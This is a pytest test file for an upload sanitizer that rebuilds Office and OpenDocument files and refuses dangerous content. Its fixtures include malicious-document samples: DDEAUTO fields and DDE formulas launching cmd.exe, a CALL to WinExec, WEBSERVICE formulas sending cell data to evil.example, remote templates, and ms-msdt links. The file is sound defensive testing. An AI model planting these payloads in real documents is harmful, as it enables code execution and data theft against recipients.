"""Word, Excel and OpenDocument files are made anew of what they may contain; what may do harm is refused in words."""
# ruff: noqa: E501

import io
import zipfile

import openpyxl
import pytest

from publishing.uploads import office, read_document
from publishing.uploads.rebuilt_file import Unusable
from publishing.uploads.worker import rebuilt
from tests.publishing import files
from tests.publishing.office_files import PARAGRAPH, docx, field, opendocument, rel, rels, xlsx

MACRO = "application/vnd.ms-office.vbaProject"


def parts_of(raw: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        return {name: package.read(name) for name in package.namelist()}


@pytest.mark.parametrize("make", [docx, xlsx, opendocument])
def test_a_harmless_document_keeps_what_it_shows_and_names_nobody(make):
    kept = rebuilt(make())
    parts = parts_of(kept.raw)
    assert b"CANARY" not in b"".join(parts.values())
    assert {"comments", "the author's name and other properties"} <= set(kept.taken_out)
    assert rebuilt(kept.raw).raw == kept.raw, "made anew it stays what it is"


def test_a_letter_keeps_its_text_image_chart_and_link():
    kept = rebuilt(docx())
    parts = parts_of(kept.raw)
    assert kept.media_type == files.DOCX
    assert b"Places by region" in parts["word/document.xml"]
    assert b'mc:Ignorable="w14"' in parts["word/document.xml"], "prefixes stay, or Word calls it damaged"
    assert {"word/media/image1.png", "word/charts/chart1.xml"} <= set(parts)
    assert b"https://example.org/a?b=c" in parts["word/_rels/document.xml.rels"]
    assert b"Places" in parts["docProps/core.xml"]
    assert b"externalData" not in parts["word/charts/chart1.xml"]
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    assert {"the link to a template", "the workbook behind a chart"} <= set(kept.taken_out)


def test_a_workbook_keeps_its_cells_sum_chart_and_link():
    kept = rebuilt(xlsx())
    book = openpyxl.load_workbook(io.BytesIO(kept.raw))
    sheet = book.active
    assert [cell.value for cell in sheet["B"]] == ["Homes", 90, 310, "=SUM(B2:B3)"]
    assert len(sheet._charts) == 1
    assert sheet["A4"].hyperlink.target == "https://example.org/"
    assert sheet["A2"].comment is None
    assert book.properties.title == "Homes"


def test_an_opendocument_text_keeps_its_text_picture_chart_and_link():
    parts = parts_of(rebuilt(opendocument()).raw)
    assert next(iter(parts)) == "mimetype"
    assert {"Pictures/a.png", "Object 1/content.xml", "meta.xml"} <= set(parts)
    assert b"https://example.org/" in parts["content.xml"]
    assert b" tail" in parts["content.xml"], "what stands behind a comment stays"
    assert {"settings.xml", "Thumbnails/thumbnail.png"}.isdisjoint(parts)


@pytest.mark.parametrize(
    "raw",
    [
        docx(field(" PAGE ") + field(" TOC ", '\\o "1-3" \\h') + field(' HYPERLINK "https://example.org/" ')),
        docx(field(' HYPERLINK \\l "_Toc1" ') + field(" STYLEREF 1 ") + field(" = 1 + 2 ")),
        xlsx(lambda book: book.active.append(['=IF(A2="x|y",VLOOKUP(A2,A1:B3,2),_xlfn.IFNA(1,2))'])),
        xlsx(
            lambda book: book.active.append(
                ['=HYPERLINK("https://example.org/"&A1,"x")', "=SUM(Table1[[#This Row],[Col (x)]])"]
            )
        ),
        opendocument('<table:table-cell table:formula="of:=SUM([.B2:.B3])"/>', "spreadsheet"),
    ],
    ids=["fields", "fields with switches", "formulas", "a link to the web", "formula of Calc"],
)
def test_what_counts_and_points_within_is_harmless(raw):
    rebuilt(raw)


def with_main(kind: str) -> bytes:
    return docx(more_types={"word__document_xml": kind})


def related(kind: str, target: str = "x.bin", mode: str = "", **parts) -> bytes:
    return docx(more_rels=(rel("rId9", kind, target, mode),), **{"word/x.bin": b"x", **parts})


HOSTILE_WORD = {
    "macros by their usual name": (
        related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", more_types={"word__x_bin": MACRO}),
        "holds macros",
    ),
    "macros renamed": (related("http://schemas.microsoft.com/office/2006/relationships/vbaProject"), "holds macros"),
    "a type that takes macros": (with_main("application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    "a template of a web site": (related("frame", "https://evil.example/a.dotm", "External"), "do not take \\(frame"),
    "an image of a web site": (related("image", "https://evil.example/a.png", "External"), "fetches something"),
    "an OLE object": (related("oleObject"), "another file or program inside"),
    "an OLE object elsewhere": (related("oleObject", "\\\\evil\\a", "External"), "another file or program inside"),
    "a package that no chart uses": (related("package"), "another file inside"),
    "another document inside": (related("aFChunk"), "another file inside"),
    "a control": (related("control"), "ActiveX"),
    "something new": (related("http://evil.example/2027/newThing"), "do not take \\(newThing"),
    "a link to a file": (related("hyperlink", "file://evil/share", "External"), "links to “file://evil/share"),
    "a link to a program": (related("hyperlink", "ms-msdt:/id", "External"), "links to “ms-msdt"),
    "a part that is not what it says": (
        related("chart", "document2.bin", **{"word/document2.bin": b"x"}),
        "not what it says",
    ),
    "DDEAUTO": (docx(field(" DDEAUTO c:\\\\windows\\\\cmd.exe ")), "the field DDEAUTO"),
    "DDE in pieces": (docx(field(" D", "D", "E c:\\\\a ")), "the field DDE"),
    "DDE in a simple field": (docx('<w:p><w:fldSimple w:instr=" DDE a b "/></w:p>'), "the field DDE"),
    "a field made of others": (
        docx(field("</w:instrText></w:r>" + field(" QUOTE 68 69 ") + "<w:r><w:instrText>")),
        "QUOTE",
    ),
    "text of another file": (docx(field(' INCLUDETEXT "\\\\\\\\evil\\\\a" ')), "the field INCLUDETEXT"),
    "a picture of another site": (docx(field(' INCLUDEPICTURE "https://evil.example/a" ')), "INCLUDEPICTURE"),
    "a field that links to a share": (docx(field(' HYPERLINK "\\\\\\\\evil\\\\a" ')), "It links to"),
    "a field without an end": (docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>'), "without an end"),
    "tracked changes": (docx('<w:p><w:ins w:author="a"><w:r><w:t>x</w:t></w:r></w:ins></w:p>'), "tracked changes"),
    "a shape with a program": (
        docx('<w:p><w:r><a action="ppaction://program" xmlns=""/></w:r></w:p>'),
        "starts a program",
    ),
    "a drawing of a web site": (
        docx('<v:imagedata xmlns:v="urn:v" src="https://evil.example/a.png"/>'),
        "fetches a picture",
    ),
    "a drawing that links to a share": (
        docx('<v:shape xmlns:v="urn:v" href="file://evil/a"/>'),
        "links to “file://evil",
    ),
    "an OLE object by its element": (
        docx('<o:OLEObject xmlns:o="urn:o" Type="Link" r:id="rId3"/>'),
        "another file or program",
    ),
    "entities": (docx(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "declares entities"),
    "no XML": (docx(**{"word/document.xml": "x"}), "damaged"),
    "a picture that is none": (docx(**{"word/media/image1.png": b"MZ"}), "no JPEG, PNG or GIF"),
    "another kind": (
        with_main("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
        "kind of document",
    ),
    "two main parts": (
        docx(**{"_rels/.rels": rels(rel("a", "officeDocument", "word/document.xml"), rel("b", "oleObject", "x"))}),
        "inside",
    ),
}


@pytest.mark.parametrize(("raw", "said"), HOSTILE_WORD.values(), ids=HOSTILE_WORD)
def test_a_word_file_that_may_do_harm_is_refused(raw, said):
    with pytest.raises(Unusable, match=said):
        rebuilt(raw)


def xlsx_with(name: str, old: str, new: str, **parts) -> bytes:
    """A workbook with one part spoilt, and others beside it."""
    came = parts_of(xlsx())
    assert old.encode() in came[name]
    return files.package({**came, name: came[name].replace(old.encode(), new.encode()), **parts})


def xlsx_related(kind: str) -> bytes:
    return xlsx_with(
        "xl/_rels/workbook.xml.rels",
        "</Relationships>",
        rel("x", kind, "x.xml") + "</Relationships>",
        **{"xl/x.xml": b"<x/>"},
    )


def hide(book):
    book.create_sheet("Working").sheet_state = "veryHidden"


def formula(text: str):
    return xlsx(lambda book: book.active.append([text]))


HOSTILE_EXCEL = {
    "a link by formula to what a cell says": (
        formula('=HYPERLINK(A1)&HYPERLINK("https://a.example/")'),
        "the function HYPERLINK",
    ),
    "a macro sheet": (xlsx_related("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"), "Excel 4"),
    "a dialog sheet": (xlsx_related("dialogsheet"), "Excel 5"),
    "a link to another workbook": (xlsx_related("externalLink"), "Break them"),
    "a connection": (xlsx_related("connections"), "connection to data"),
    "a hidden sheet": (xlsx(hide), "“Working” is hidden"),
    "DDE in a formula": (formula("=cmd|'/C calc'!A0"), "Cell A5 has a formula with a link to another program"),
    "a web service": (formula('=_xlfn.WEBSERVICE("https://evil.example/"&A1)'), "the function WEBSERVICE"),
    "a picture by formula": (formula('=_xlfn.IMAGE("https://evil.example/"&A1)'), "the function IMAGE"),
    "a link by formula": (formula('=HYPERLINK("file://evil/a","x")'), "the function HYPERLINK"),
    "a call of Windows": (formula('=CALL("kernel32","WinExec","JC")'), "the function CALL"),
    "a button": (
        xlsx_with("xl/drawings/drawing1.xml", "<graphicFrame", '<graphicFrame macro="Module1.a"'),
        "starts a macro",
    ),
    "a type that takes macros": (
        xlsx_with("[Content_Types].xml", "spreadsheetml.sheet.main", "x.macroEnabled.main"),
        "can hold macros",
    ),
}


@pytest.mark.parametrize(("raw", "said"), HOSTILE_EXCEL.values(), ids=HOSTILE_EXCEL)
def test_an_excel_file_that_may_do_harm_is_refused(raw, said):
    with pytest.raises(Unusable, match=said):
        rebuilt(raw)


LISTENER = '<office:event-listeners><script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:a"/></office:event-listeners>'
HIDDEN = '<office:automatic-styles><style:style style:name="ta2" style:family="table"><style:table-properties table:display="false"/></style:style></office:automatic-styles>'
HOSTILE_OPEN = {
    "macros": (opendocument(**{"Basic/Standard/Module1.xml": "x"}), "holds macros"),
    "scripts": (opendocument(**{"Scripts/python/a.py": "x"}), "holds macros"),
    "an event that starts a script": (opendocument(f"<text:p>{LISTENER}</text:p>"), "event that starts one|elsewhere"),
    "a script in the text": (opendocument("<text:p><text:script>x</text:script></text:p>"), "a program"),
    "a form": (opendocument("<form:form/>"), "a form"),
    "a password": (opendocument(manifest="<manifest:encryption-data/>"), "password"),
    "a picture elsewhere": (opendocument('<draw:image xlink:href="https://evil.example/a.png"/>'), "elsewhere"),
    "an object elsewhere": (opendocument('<draw:object xlink:href="../../a"/>'), "elsewhere"),
    "an OLE object": (opendocument('<draw:object-ole xlink:href="./Object 1"/>'), "another file or program"),
    "a link that runs": (
        opendocument('<text:a xlink:href="vnd.sun.star.script:a?language=Basic">x</text:a>'),
        "links to",
    ),
    "text of another file": (
        opendocument('<text:section><text:section-source xlink:href="a.odt"/></text:section>'),
        "another file",
    ),
    "DDE": (opendocument("<text:dde-connection-decls><text:dde-connection-decl/></text:dde-connection-decls>"), "DDE"),
    "a function that fetches": (
        opendocument('<table:table-cell table:formula="of:=WEBSERVICE(1)"/>', "spreadsheet"),
        "WEBSERVICE",
    ),
    "tracked changes": (opendocument("<text:tracked-changes/>"), "tracked changes"),
    "a hidden sheet": (
        opendocument('<table:table table:name="Working" table:style-name="ta2"/>', "spreadsheet", styles=HIDDEN),
        "“Working” is hidden",
    ),
    "another kind": (
        files.package({"mimetype": "application/epub+zip", "META-INF/manifest.xml": "<a/>"}),
        "kind of document",
    ),
}


@pytest.mark.parametrize(("raw", "said"), HOSTILE_OPEN.values(), ids=HOSTILE_OPEN)
def test_an_opendocument_file_that_may_do_harm_is_refused(raw, said):
    with pytest.raises(Unusable, match=said):
        rebuilt(raw)


def test_the_empty_lists_that_calc_writes_are_left_behind():
    lists = "<office:forms form:automatic-focus='false'/><office:scripts><script:event-listener/></office:scripts>"
    content = parts_of(rebuilt(opendocument(lists)).raw)["content.xml"]
    assert b"forms" not in content
    assert b"scripts" not in content


def test_an_image_in_a_document_loses_its_place_and_camera():
    raw = docx(**{"word/media/image1.png": files.photograph()})
    kept = parts_of(rebuilt(raw).raw)["word/media/image1.png"]
    assert kept.startswith(b"\xff\xd8\xff")
    assert b"CANARY" not in kept
    assert b"Exif" not in kept


def test_what_no_relationship_leads_to_is_left_behind():
    assert "word/payload.exe" not in parts_of(rebuilt(docx(**{"word/payload.exe": b"MZ"})).raw)
    assert "Configurations2/menu.xml" not in parts_of(rebuilt(opendocument(**{"Configurations2/menu.xml": b"x"})).raw)


@pytest.mark.parametrize(
    ("raw", "said"),
    [
        (b"\xd0\xcf\x11\xe0" + b"x" * 600, "old Office file"),
        (files.package({"notes.txt": "x"}), "folder of files"),
        (docx()[:-30], "damaged"),
        (files.package({"[Content_Types].xml": "<a/>", "[content_types].XML": "<a/>"}), "unpacks to something"),
    ],
)
def test_other_packages_are_refused(raw, said):
    with pytest.raises(Unusable, match=said):
        rebuilt(raw)


def test_a_document_that_unpacks_to_too_much_is_refused_unopened(monkeypatch):
    monkeypatch.setattr(office, "UNPACKED_MOST", 20_000)
    with pytest.raises(Unusable, match="unpacks to something"):
        rebuilt(docx(PARAGRAPH * 1000))


def test_the_whole_way_through_the_process_of_its_own():
    kept = read_document(docx())
    assert (kept.media_type, kept.raw) == (files.DOCX, rebuilt(docx()).raw)
    assert "comments" in kept.taken_out
    with pytest.raises(Unusable, match="the field DDE"):
        read_document(docx(field(" DDE a ")))


def test_a_document_that_wants_more_memory_or_time_than_it_may_is_refused(monkeypatch):
    monkeypatch.setattr("publishing.uploads.documents.COMMAND", ["sleep", "20"])
    monkeypatch.setattr("publishing.uploads.documents.MOST_SECONDS", 0.2)
    with pytest.raises(Unusable, match="more than we can look through"):
        read_document(docx())
    monkeypatch.setattr("publishing.uploads.documents.COMMAND", ["false"])
    with pytest.raises(Unusable, match="more than we can look through"):
        read_document(docx())
